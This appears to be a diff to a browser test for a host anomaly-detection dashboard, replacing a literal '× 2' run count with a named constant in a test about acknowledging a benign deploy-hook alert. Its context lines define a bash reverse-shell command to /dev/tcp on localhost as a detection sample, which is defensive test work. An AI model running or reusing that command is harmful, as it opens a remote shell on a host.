@@ -29,6 +29,7 @@ TOKEN = "page-token"
 AUTH = {"Authorization": f"Bearer {TOKEN}"}
 REVERSE_SHELL = "sh -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
 HOOK = "sh -c /opt/app/hooks/post-deploy.sh"  # the app's own deploy hook: new, and a shell under nginx
+TWO_RUNS = "\u00d7 2"  # how a line counts a command that ran twice
 
 # (pid, parent pid, executable, command line, parent executable, uid): nginx with two workers, and the
 # host's routine (log rotation, backups) a dozen times over, so the baseline knows them.
@@ -170,10 +171,10 @@ def test_acknowledging_a_benign_alert_stops_it_alerting_again(browser: Any, stac
     browser.get(browser.current_url.split("#")[0] + "#/anomalies")
     select(browser, "#f-group", "pattern")
     select(browser, "#f-severity", "none,warn,alert")
-    wait_until(lambda: "× 2" in row_text(browser, HOOK), timeout=20, what="both runs of the hook")
+    wait_until(lambda: TWO_RUNS in row_text(browser, HOOK), timeout=20, what="both runs of the hook")
     select(browser, "#f-severity", "alert")
     # Among alerts, the hook's line counts its first run only: the second, after the acknowledgement, is none.
-    wait_until(lambda: row_text(browser, HOOK) and "× 2" not in row_text(browser, HOOK), timeout=20,
+    wait_until(lambda: row_text(browser, HOOK) and TWO_RUNS not in row_text(browser, HOOK), timeout=20,
                what="the hook's line among alerts, without its second run")
 
 
